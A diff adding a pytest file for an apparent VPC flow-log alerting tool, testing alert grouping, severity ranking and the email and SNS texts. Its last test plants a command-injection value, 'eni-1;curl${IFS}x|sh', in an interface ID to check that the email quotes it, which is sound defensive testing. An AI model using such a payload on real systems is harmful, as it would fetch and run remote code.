@@ -1,0 +1,173 @@
+"""Grouping, severity, fingerprints, and the texts people read."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from flowverdict.alerts import Alert, Severity
+from flowverdict.delivery import email, sns
+from flowverdict.pipeline import Batch
+
+ROOT = Path(__file__).parents[2]
+SCENARIOS = ROOT / "tests" / "scenarios"
+GOLDEN = ROOT / "tests" / "golden"
+
+
+type Edits = tuple[tuple[str, str], ...]
+
+
+def alerts_of(*names: str, edits: Edits = (), beside: bool = True) -> list[Alert]:
+    """Group the flows of scenarios; with edits, of each scenario edited and (``beside``) as it is."""
+    batch = Batch()
+    for name in names:
+        text = (SCENARIOS / f"{name}.log").read_text()
+        edited = text
+        for old, new in edits:
+            assert old in text
+            edited = edited.replace(old, new)
+        for variant in {text, edited} if beside else {edited}:
+            batch.add_file(io.BytesIO(variant.encode()), name=f"{name}.log")
+    return batch.alerts()
+
+
+# --- grouping ---------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "edit",
+    [
+        ("50122", "50999"),
+        ("203.0.113.12", "203.0.113.13"),
+        ("1795348805", "1795352405"),
+        ("eni-0aaaaaaaaaaaaaaa1", "eni-0aaaaaaaaaaaaaaa9"),
+    ],
+    ids=["ephemeral port", "remote address", "time", "interface of the same VPC"],
+)
+def test_what_differs_with_every_connection_makes_no_new_alert(edit: tuple[str, str]) -> None:
+    (one,) = alerts_of("outbound-response")
+    (both,) = alerts_of("outbound-response", edits=(edit,))
+    assert both.key.fingerprint == one.key.fingerprint
+    assert both.records == 2
+
+
+@pytest.mark.parametrize(
+    "edit",
+    [
+        ("443", "8443"),
+        ("vpc-0123456789abcdef0", "vpc-0fedcba9876543210"),
+        ("123456789012", "210987654321"),
+        ("eu-west-1", "us-east-1"),
+    ],
+    ids=["service port", "VPC", "account", "Region"],
+)
+def test_what_makes_another_problem_makes_another_alert(edit: tuple[str, str]) -> None:
+    edits = (edit, ("eni-0aaaaaaaaaaaaaaa1", "eni-0aaaaaaaaaaaaaaa9"))
+    assert len({alert.key.fingerprint for alert in alerts_of("outbound-response", edits=edits)}) == 2
+
+
+def test_without_a_vpc_in_the_log_the_interface_tells_alerts_apart() -> None:
+    assert len(alerts_of("default-format-outbound-response", edits=(("eni-0aaaaaaaaaaaaaaa1", "eni-0aaaaaaaaaaaaaaa9"),))) == 2
+
+
+def test_the_weakest_confidence_is_the_alerts_so_that_certain_holds_for_every_flow() -> None:
+    (alert,) = alerts_of("outbound-response", "server-sends-syn-ack", edits=())
+    # Both scenarios are one 5-tuple; the second alone has no request.
+    assert alert.confidence == "certain"
+    (mixed,) = alerts_of("outbound-response", "pods-behind-one-address")
+    assert (mixed.confidence, dict(mixed.confidences)) == ("likely", {"certain": 1, "likely": 1})
+    assert "at least likely: certain for 1, likely for 1 of 2 flows" in email.body(mixed)
+
+
+def test_most_severe_first() -> None:
+    alerts = alerts_of("closed-connection", "inbound-request", "inbound-response", "internet-without-reject-reason")
+    assert [alert.severity for alert in alerts] == [Severity.CRITICAL, Severity.HIGH, Severity.LOW, Severity.INFO]
+
+
+# --- severity ---------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("scenario", "edits", "severity"),
+    [
+        ("outbound-response", (), "critical"),
+        ("inbound-response", (), "critical"),
+        ("ntp-both-ports-the-same", (), "high"),  # a response no more than possible is not called critical
+        ("inbound-request", (), "high"),
+        ("outbound-request", (), "high"),
+        ("outbound-request", (("10.0.3.30", "198.51.100.7"),), "medium"),
+        ("block-public-access", (), "low"),
+        ("backscatter", (), "low"),
+        ("closed-connection", (), "info"),
+    ],
+)
+def test_severity_and_its_reason(scenario: str, edits: Edits, severity: str) -> None:
+    (alert,) = alerts_of(scenario, edits=edits, beside=False)
+    assert alert.severity == severity
+    assert alert.severity_reason
+
+
+def test_egress_to_an_aws_service_is_high_but_to_anybodys_ec2_machine_is_not() -> None:
+    header = (SCENARIOS / "aws-9-service-and-path.log").read_text().splitlines()[0]
+    line = (
+        "5 10.0.0.71 52.95.128.179 34210 443 6 1616729292 1616729349 IPv4 7 471 123456789012 vpc-1 subnet-1 i-1 eni-1 "
+        "eu-west-1 euw1-az1 - - REJECT 2 10.0.0.71 52.95.128.179 - {service} 8 egress OK"
+    )
+    severities = {}
+    for service in ("S3", "EC2", "-"):
+        batch = Batch()
+        batch.add_file(io.BytesIO(f"{header}\n{line.format(service=service)}\n".encode()), name="x")
+        (alert,) = batch.alerts()
+        severities[service] = alert.severity.value
+    assert severities == {"S3": "high", "EC2": "medium", "-": "medium"}
+
+
+# --- texts ------------------------------------------------------------------------------------------------------------
+
+FACES = (
+    "outbound-response",
+    "inbound-request",
+    "outbound-request",
+    "inbound-response",
+    "default-format-outbound-response",
+    "backscatter",
+    "closed-connection",
+    "block-public-access",
+    "reply-looking-without-request",
+    "same-subnet-request",
+)
+
+
+@pytest.mark.parametrize("name", FACES)
+def test_the_email_reads_as_agreed(name: str) -> None:
+    """``UPDATE_GOLDEN=1 make test`` writes the files anew; read the difference before committing it."""
+    alert = alerts_of(name)[0]
+    text = f"Subject: {email.subject(alert)}\n\n{email.body(alert)}"
+    path = GOLDEN / f"email-{name}.txt"
+    if os.environ.get("UPDATE_GOLDEN"):
+        path.write_text(text)
+    assert path.read_text() == text
+
+
+@pytest.mark.parametrize("name", FACES)
+def test_subjects_are_short_printable_ascii_and_attributes_are_text(name: str) -> None:
+    alert = alerts_of(name)[0]
+    subject = email.subject(alert)
+    assert len(subject) < 100
+    assert subject.isascii()
+    assert subject.isprintable()
+    assert {key: value["DataType"] for key, value in sns.attributes(alert).items()} == dict.fromkeys(
+        ("severity", "verdict", "leg", "direction"), "String"
+    )
+    assert json.loads(json.loads(sns.message(alert))["default"])["fingerprint"] == alert.key.fingerprint
+
+
+def test_what_a_person_pastes_is_quoted() -> None:
+    hostile = "eni-1;curl${IFS}x|sh"
+    alerts = alerts_of("default-format-outbound-response", edits=(("eni-0aaaaaaaaaaaaaaa1", hostile),))
+    (alert,) = [alert for alert in alerts if hostile in alert.interfaces]
+    assert f"--network-interface-ids '{hostile}'" in email.body(alert)
